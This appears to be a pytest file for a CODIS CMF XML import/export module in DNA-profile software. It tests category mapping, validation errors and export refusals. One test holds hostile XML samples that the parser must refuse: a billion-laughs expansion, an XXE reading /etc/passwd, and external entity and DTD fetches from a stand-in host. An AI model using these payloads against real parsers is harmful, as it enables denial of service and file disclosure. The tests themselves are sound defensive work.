"""CODIS CMF 3.2/3.3 XML import/export (dna.md §2.3, §7.3)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from jointdesk.dna.compute import ExportRefusedError, LocusCall, LocusStatus, build_profile
from jointdesk.dna.formats import (
    CMF_CATEGORIES,
    DEFAULT_CMF_VALUE,
    CmfHeader,
    LocusProvenance,
    SampleMeta,
    export_cmf,
    import_cmf,
    map_cmf_category,
)

FIXTURE = (Path(__file__).parent / "fixtures" / "dna_formats_cmf_v32.xml").read_bytes()
HEADER = CmfHeader("XX0000000", "XXLAB0001", "analyst01", "2024-05-02T09:30:00", kit="Identifiler")


def _cmf(specimens: str, version: str = "3.2", message: str = "Import") -> str:
    return (
        '<?xml version="1.0"?>\n<CODISImportFile xmlns="urn:CODISImportFile-schema">'
        f"<HEADERVERSION>{version}</HEADERVERSION><MESSAGETYPE>{message}</MESSAGETYPE>"
        "<DESTINATIONORI>XX0000000</DESTINATIONORI><SOURCELAB>XXLAB0001</SOURCELAB>"
        "<SUBMITBYUSERID>u1</SUBMITBYUSERID><SUBMITDATETIME>2024-05-02T09:30:00</SUBMITDATETIME>\n"
        f"{specimens}</CODISImportFile>"
    )


def _locus(name: str, *alleles: str) -> str:
    body = "".join(
        f'<ALLELE ALLELEREQUIRED="true"><ALLELEVALUE>{a[1:]}</ALLELEVALUE></ALLELE>'
        if a.startswith("!")
        else f"<ALLELE><ALLELEVALUE>{a}</ALLELEVALUE></ALLELE>"
        for a in alleles
    )
    return (
        f"<LOCUS><LOCUSNAME>{name}</LOCUSNAME><READINGBY>u1</READINGBY>"
        f"<READINGDATETIME>2024-05-01T10:00:00</READINGDATETIME>{body}</LOCUS>"
    )


def _specimen(sample_id: str, category: str, *loci: str, attrs: str = "") -> str:
    return (
        f"<SPECIMEN{attrs}><SPECIMENID>{sample_id}</SPECIMENID>"
        f"<SPECIMENCATEGORY>{category}</SPECIMENCATEGORY>{''.join(loci)}</SPECIMEN>\n"
    )


def test_fixture_profiles_categories_and_required_alleles() -> None:
    result = import_cmf(FIXTURE)
    by_ref = {p.profile_ref: p for p in result.profiles}
    assert set(by_ref) == {"ST-0007-01", "ST-0007-02M", "REF-0031"}
    stain = by_ref["ST-0007-01"]
    assert stain.specimen_category == "forensic_unknown" and not stain.mixture
    assert stain.loci["TH01"] == LocusCall("TH01", ("6", "9.3"), raw_name="THO1")
    assert stain.loci["FGA"].alleles == ("22", "OL")
    assert stain.loci["vWA"].alleles == ("17",)
    assert stain.amel == ("X", "Y")
    mixture = by_ref["ST-0007-02M"]
    assert mixture.mixture and mixture.specimen_category == "forensic_mixture"
    assert mixture.loci["D8S1179"].required == frozenset({"12", "14"})
    assert mixture.loci["D21S11"].required == frozenset()
    assert by_ref["REF-0031"].loci["Penta D"].alleles == ("9", "13")
    assert by_ref["REF-0031"].specimen_category == "relative_reference"


def test_fixture_meta_header_and_errors() -> None:
    result = import_cmf(FIXTURE)
    meta = result.meta["ST-0007-01"]
    assert meta == SampleMeta(
        sample_id="ST-0007-01",
        raw_category="Forensic, Unknown",
        identified=False,
        case_id="CASE-2024-0007",
        source_id="No",
        partial=False,
        comment="swab, door handle",
        loci=meta.loci,
    )
    assert meta.loci["D3S1358"] == LocusProvenance("analyst01", "2024-05-01T15:10:00", "B-17", "Identifiler")
    assert result.meta["ST-0007-02M"].partial is True
    assert result.meta["REF-0031"].identified is True
    assert result.header["SOURCELAB"] == "XXLAB0001" and result.header["KIT"] == "Identifiler"
    unknown, withheld = sorted(result.errors, key=lambda e: e.line or 0, reverse=True)
    assert (unknown.line, unknown.sample_id, unknown.field) == (84, "ST-0009-01", "D99S999")
    assert "unknown locus" in unknown.reason
    assert withheld.sample_id == "ST-0009-01" and "withheld" in withheld.reason


@pytest.mark.parametrize(
    ("raw", "category", "identified"),
    [
        ("Convicted Offender", "offender", True),
        ("Arrestee", "arrestee", True),
        ("Forensic, Unknown", "forensic_unknown", False),
        ("forensic,unknown", "forensic_unknown", False),
        ("Forensic Mixture", "forensic_mixture", False),
        ("Missing Person", "missing_person", True),
        ("Unidentified Person", "unidentified_remains", False),
        ("Biological Child", "relative_reference", True),
        ("Alleged Father", "relative_reference", True),
        ("Paternal Relative", "relative_reference", True),
        ("Deduced Suspect", "deduced", None),
        ("Deduced Victim Known", "deduced", None),
        ("Suspect, Known", "case_known", True),
        ("Victim,  Known", "case_known", True),
        ("Elimination, Known", "elimination", True),
        ("Staff", "elimination", True),
        ("Volunteer", "elimination", True),
        ("Proficiency", "non_casework", None),
        ("Population", "non_casework", None),
        ("Juvenile", "other", None),
        ("CO Duplicate", "other", None),
    ],
)
def test_category_mapping(raw: str, category: str, identified: bool | None) -> None:
    assert map_cmf_category(raw) == (category, identified)


def test_categories_are_the_domain_categories() -> None:
    from jointdesk.dna.rules import Category

    values = {category for category, _ in CMF_CATEGORIES.values()} | set(DEFAULT_CMF_VALUE)
    assert values == {c.value for c in Category}
    assert all(map_cmf_category(raw)[0] == category for category, raw in DEFAULT_CMF_VALUE.items())


def test_unknown_category_imports_as_other_with_raw_value() -> None:
    result = import_cmf(_cmf(_specimen("S-1", "Legal", _locus("TH01", "6"))))
    assert result.profiles[0].specimen_category == "other"
    assert result.meta["S-1"].raw_category == "Legal"


def test_version_33_accepted_other_versions_and_message_types_refused() -> None:
    assert import_cmf(_cmf(_specimen("S-1", "Arrestee", _locus("TH01", "6")), version="3.3")).ok
    bad = import_cmf(_cmf(_specimen("S-1", "Arrestee", _locus("TH01", "6")), version="4.0"))
    assert not bad.profiles and bad.errors[0].field == "HEADERVERSION"
    bad = import_cmf(_cmf(_specimen("S-1", "Arrestee", _locus("TH01", "6")), message="Delete"))
    assert not bad.profiles and bad.errors[0].field == "MESSAGETYPE"


@pytest.mark.parametrize(
    ("specimen", "field", "reason"),
    [
        (_specimen("S-1", "Arrestee", _locus("TH01", *[str(i) for i in range(5, 14)])), "TH01", "1-8 ALLELE"),
        (_specimen("S-1", "Arrestee", _locus("TH01")), "TH01", "1-8 ALLELE"),
        (_specimen("S-1", "Arrestee", _locus("TH01", "six")), "TH01", "bad allele designation 'six'"),
        (_specimen("S-1", "Arrestee", _locus("TH01", "12345678901")), "TH01", "longer than 10"),
        (_specimen("S-1", "Arrestee", _locus("AMEL", "!X")), "AMEL", "obligate alleles"),
        (_specimen("S-1", "Arrestee", attrs=' PARTIAL="maybe"'), "PARTIAL", "true or false"),
        ("<SPECIMEN><SPECIMENID>S-1</SPECIMENID></SPECIMEN>", "SPECIMENCATEGORY", "missing"),
        ("<SPECIMEN><SPECIMENCATEGORY>Arrestee</SPECIMENCATEGORY></SPECIMEN>", "SPECIMENID", "missing"),
        (_specimen("S" * 25, "Arrestee"), "SPECIMENID", "longer than 24"),
        (
            _specimen("S-1", "Arrestee", "<LOCUS><ALLELE><ALLELEVALUE>6</ALLELEVALUE></ALLELE></LOCUS>"),
            "LOCUSNAME",
            "without LOCUSNAME",
        ),
        (
            _specimen(
                "S-1", "Arrestee", _locus("TH01", "6").replace("<ALLELE>", '<ALLELE ALLELEREQUIRED="yes">')
            ),
            "TH01",
            "true or false",
        ),
    ],
)
def test_specimen_errors(specimen: str, field: str, reason: str) -> None:
    result = import_cmf(_cmf(specimen))
    assert not result.profiles
    first = result.errors[0]
    assert first.field == field and reason in first.reason and first.line == 3


def test_duplicate_specimen_id_rejects_both() -> None:
    twice = _specimen("S-1", "Arrestee", _locus("TH01", "6")) + _specimen(
        "S-1", "Arrestee", _locus("vWA", "17")
    )
    result = import_cmf(_cmf(twice))
    assert not result.profiles
    assert any(e.reason == "SPECIMENID given twice" and e.line == 4 for e in result.errors)


def test_keep_partial_keeps_the_good_loci() -> None:
    result = import_cmf(
        _cmf(_specimen("S-1", "Arrestee", _locus("TH01", "6"), _locus("XYZ", "1"))), keep_partial=True
    )
    assert set(result.profiles[0].loci) == {"TH01"}
    assert len(result.errors) == 1


def test_unknown_elements_are_noted_not_silently_dropped() -> None:
    extra = _specimen("S-1", "Arrestee", _locus("TH01", "6")).replace(
        "</SPECIMEN>", "<EXTRA>1</EXTRA></SPECIMEN>"
    )
    result = import_cmf(_cmf(extra))
    assert result.ok
    assert result.notes == ("line 3: element EXTRA not imported",)


def test_wrong_root_and_malformed_xml() -> None:
    assert "not CODISImportFile" in import_cmf("<Other/>").errors[0].reason
    broken = import_cmf("<CODISImportFile>\n<SPECIMEN>\n</CODISImportFile>")
    assert broken.errors[0].line == 3 and "malformed XML" in broken.errors[0].reason
    assert import_cmf("").errors[0].reason == "malformed XML: no element found"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<CODISImportFile><HEADERVERSION>&lol3;</HEADERVERSION></CODISImportFile>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE CODISImportFile [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CODISImportFile><HEADERVERSION>&xxe;</HEADERVERSION></CODISImportFile>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<CODISImportFile/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE CODISImportFile SYSTEM "http://example.invalid/codis.dtd">
<CODISImportFile/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD])
def test_malicious_xml_is_refused(document: str) -> None:
    for data in (document, document.encode("utf-8")):
        result = import_cmf(data)
        assert not result.profiles
        assert result.errors[0].reason == "DTDs and entity declarations are refused"
        assert result.errors[0].line == 2


def test_undeclared_entity_and_oversized_documents_are_refused() -> None:
    assert "undefined entity" in import_cmf("<CODISImportFile>&ent;</CODISImportFile>").errors[0].reason
    big = _cmf(_specimen("S-1", "Arrestee", _locus("TH01", "6")))
    assert "larger than" in import_cmf(big, max_size=100).errors[0].reason


def test_utf16_and_bom_input() -> None:
    text = _cmf(_specimen("S-1", "Arrestee", _locus("TH01", "6"))).replace('<?xml version="1.0"?>', "")
    assert import_cmf(text.encode("utf-16")).ok
    assert import_cmf(b"\xef\xbb\xbf" + text.encode()).ok
    assert import_cmf("\ufeff" + text).ok


def test_export_round_trips_the_fixture_with_meta() -> None:
    first = import_cmf(FIXTURE)
    text = export_cmf(first.profiles, HEADER, meta=first.meta)
    second = import_cmf(text)
    assert second.ok and second.meta == first.meta
    strip = [replace(p, loci={n: replace(c, raw_name=n) for n, c in p.loci.items()}) for p in first.profiles]
    assert second.profiles == tuple(strip)
    assert dict(second.header) == dict(first.header)


def test_export_without_meta_uses_defaults() -> None:
    profile = build_profile("S-1", {"TH01": "6,6", "AMEL": "X"}, specimen_category="offender")
    text = export_cmf([profile], HEADER)
    assert text.count("<ALLELEVALUE>6</ALLELEVALUE>") == 1  # CODIS keys alleles by value
    assert "<SPECIMENCATEGORY>Convicted Offender</SPECIMENCATEGORY>" in text
    assert "<READINGBY>analyst01</READINGBY>" in text and 'xmlns="urn:CODISImportFile-schema"' in text
    back = import_cmf(text).profiles[0]
    assert back.loci["TH01"].alleles == ("6",) and back.amel == ("X",)


@pytest.mark.parametrize(
    ("profile", "meta", "match"),
    [
        (build_profile("S-1", {"TH01": "6"}), None, "needs its raw CMF value"),
        (build_profile("S-1", {"TH01": "6"}, specimen_category="relative_reference"), None, "raw CMF value"),
        (
            build_profile("S-1", {"TH01": "6"}, specimen_category="offender"),
            SampleMeta("S-1", "Staff"),
            "does not map",
        ),
        (
            build_profile("S-1", {"TH01": "6"}, mixture=True, specimen_category="forensic_unknown"),
            None,
            "mixtures",
        ),
        (
            build_profile("S-1", {"TH01": "6", "vWA": ""}, specimen_category="offender"),
            None,
            "not_typed at vWA",
        ),
        (build_profile("S" * 25, {"TH01": "6"}, specimen_category="offender"), None, "SPECIMENID"),
        (
            build_profile(
                "S-1", {"TH01": ",".join(str(i) for i in range(5, 14))}, specimen_category="offender"
            ),
            None,
            "1-8",
        ),
    ],
)
def test_export_refusals(profile: object, meta: SampleMeta | None, match: str) -> None:
    from jointdesk.dna.compute import Profile

    assert isinstance(profile, Profile)
    with pytest.raises(ExportRefusedError, match=match):
        export_cmf([profile], HEADER, meta={"S-1": meta} if meta else None)


def test_export_lossy_drops_not_typed_loci() -> None:
    profile = build_profile("S-1", {"TH01": "6", "vWA": ""}, specimen_category="offender")
    back = import_cmf(export_cmf([profile], HEADER, allow_lossy=True)).profiles[0]
    assert set(back.loci) == {"TH01"}
    inconclusive = replace(profile, loci={"TH01": LocusCall("TH01", status=LocusStatus.INCONCLUSIVE)})
    assert "<LOCUS>" not in export_cmf([inconclusive], HEADER, allow_lossy=True)


@pytest.mark.parametrize(
    "header",
    [
        replace(HEADER, version="3.4"),
        replace(HEADER, source_lab="LAB-NAME-TOO-LONG"),
        replace(HEADER, destination_ori=""),
        replace(HEADER, submit_by="u" * 21),
    ],
)
def test_export_header_checks(header: CmfHeader) -> None:
    with pytest.raises(ExportRefusedError):
        export_cmf([], header)
